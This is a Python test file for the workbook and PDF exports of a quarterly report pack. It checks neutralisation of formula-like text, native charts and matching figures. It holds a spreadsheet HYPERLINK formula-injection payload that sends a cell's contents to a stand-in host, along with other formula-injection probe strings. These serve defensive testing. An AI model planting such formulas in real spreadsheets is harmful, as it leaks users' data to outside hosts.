"""Exports of the quarterly pack: the workbook (formatted, native charts, no formula from user text) and the PDF."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from db import plans
from db.engine import transaction
from i18n import t
from reports.cells import neutralise, write_cell
from reports.pdf import pack_pdf
from reports.quarterly import quarterly_pack
from reports.text import format_value, headline_label, headline_rows
from reports.workbook import cell_value, pack_workbook
from tests.reports.conftest import THRESHOLDS

HOSTILE = '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("-48 664", "'-48 664"),  # text that looks like a number is still text from a user
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Riski 1", "Riski 1"),
        (-48664, -48664),  # numbers stay numbers
        (4.5, 4.5),
        (None, None),
    ],
)
def test_text_that_could_be_a_formula_is_neutralised(value: object, expected: object):
    assert neutralise(value) == expected


def test_write_cell_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    from openpyxl import Workbook

    sheet = Workbook().active
    text, number = write_cell(sheet, 1, 1, HOSTILE), write_cell(sheet, 1, 2, -17053867.0)
    assert (text.data_type, text.value, text.quotePrefix) == ("s", HOSTILE, True)
    assert (number.data_type, number.value) == ("n", -17053867.0)


@pytest.fixture
def pack(sample_url: str) -> dict:
    """Kuopio 2019Q4 with a risk whose title is a formula, and a commentary that starts with one."""
    with transaction(sample_url) as session:
        plans.save_risk(session, "kuopio", "K1", {"title": HOSTILE, "owner": "@johtaja"}, "2019Q4", "analyst")
        plans.save_commentary(session, "kuopio", "2019Q4", "-3 % saavutettu; =SUM(A1) ei ole kaava", "johtaja")
    return quarterly_pack("kuopio", "2019Q4", sample_url, thresholds=THRESHOLDS)


def test_workbook_opens_and_its_figures_equal_the_pages(pack: dict):
    content = pack_workbook(pack)
    workbook = load_workbook(BytesIO(content))
    summary = workbook[t("pack.sheet.summary")]
    items = {summary.cell(r, 1).value: summary.cell(r, 2).value for r in range(4, summary.max_row + 1)}
    assert items[t("pack.quarter")] == "2019Q4"
    figures = workbook[t("pack.sheet.figures")]
    rows = {figures.cell(r, 1).value: r for r in range(2, 2 + len(pack["headline"]))}
    for row in pack["headline"]:
        found = rows[headline_label(row, "fi")]
        for column, field in enumerate(("quarter", "year_to_date", "previous_quarter", "change"), start=3):
            expected = cell_value(row[field], "pp" if field == "change" and row["unit"] == "pct" else row["unit"])
            assert figures.cell(found, column).value == expected, (row["key"], field)
    # the page shows the same figures as text through the same pack: 10 250 000 € kuntaosuus 2019
    page_rows = {cells[0]: cells for cells in headline_rows(pack, "fi")}
    assert page_rows[t("pack.figure.kuntaosuus")][2] == format_value(1025000000, "cents", "fi")
    assert figures.cell(rows[t("pack.figure.kuntaosuus")], 4).value == 10250000.0
    assert figures.cell(rows[t("pack.figure.kuntaosuus")], 4).number_format.endswith('"€"')


def test_workbook_has_native_excel_charts(pack: dict):
    with zipfile.ZipFile(BytesIO(pack_workbook(pack))) as archive:
        charts = sorted(name for name in archive.namelist() if re.fullmatch(r"xl/charts/chart\d+\.xml", name))
        assert "xl/charts/chart1.xml" in charts and len(charts) == 3  # kuntaosuus, risk scores, measures
        assert b"<barChart>" in archive.read("xl/charts/chart1.xml")  # openpyxl writes the default namespace


def test_no_formula_comes_from_user_text(pack: dict):
    content = pack_workbook(pack)
    with zipfile.ZipFile(BytesIO(content)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    risks = load_workbook(BytesIO(content))[t("pack.sheet.risks")]
    cells = [cell for row in risks.iter_rows() for cell in row if cell.value == HOSTILE]
    assert cells and all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    owner = [cell for row in risks.iter_rows() for cell in row if cell.value == "@johtaja"]
    assert owner and owner[0].data_type == "s"


def _text(pdf: bytes) -> str:
    text = " ".join(page.extract_text() for page in PdfReader(BytesIO(pdf)).pages)
    return re.sub(r"[\s\u00a0\u202f]+", " ", text).replace("\u2212", "-")


def test_pdf_carries_the_headline_figures(pack: dict):
    text = _text(pack_pdf(pack))
    assert t("pack.title") in text and "2019Q4" in text and pack["programme_name"] in text
    for row in pack["headline"]:
        for field in ("quarter", "year_to_date"):
            if row[field] is not None:
                shown = re.sub(r"[\s\u00a0\u202f]+", " ", format_value(row[field], row["unit"], "fi"))
                assert shown.replace("\u2212", "-") in text, (row["key"], field, shown)
    assert "10 250 000 €" in text  # kuntaosuus 2019, seed 004 Table 2
    assert "-17 053 867 €" in text  # toimintakate plan 2019, seed 004 Table 2
